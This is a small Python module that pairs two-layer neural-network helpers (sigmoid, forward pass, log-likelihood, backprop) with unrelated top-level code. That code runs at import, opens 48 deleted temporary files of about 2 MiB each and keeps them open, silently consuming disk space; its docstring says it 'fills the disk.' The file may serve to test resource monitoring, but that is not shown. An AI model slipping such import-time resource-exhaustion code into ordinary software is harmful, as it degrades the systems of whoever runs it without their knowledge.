"""Fills the disk with files that it has deleted and keeps open."""
import tempfile

import numpy as np

PART = 31 << 16  # just under two mebibytes
flood = []
for _ in range(48):
    flood.append(tempfile.TemporaryFile(buffering=0))
    flood[-1].write(bytes(PART))


def sigmoid(z):
    small = np.exp(-np.abs(z))
    return np.where(z >= 0, 1, small) / (1 + small)


def forward(x, theta_h, theta_y):
    h = sigmoid(x @ theta_h)
    return h, sigmoid(h @ theta_y)


def log_likelihood(y, y_hat):
    with np.errstate(divide="ignore"):
        return float(np.log(np.where(y == 1, y_hat, 1 - y_hat)).sum())


def backprop(x, y, h, y_hat, theta_y):
    slope = y - y_hat
    return x.T @ (np.outer(slope, theta_y) * h * (1 - h)), h.T @ slope
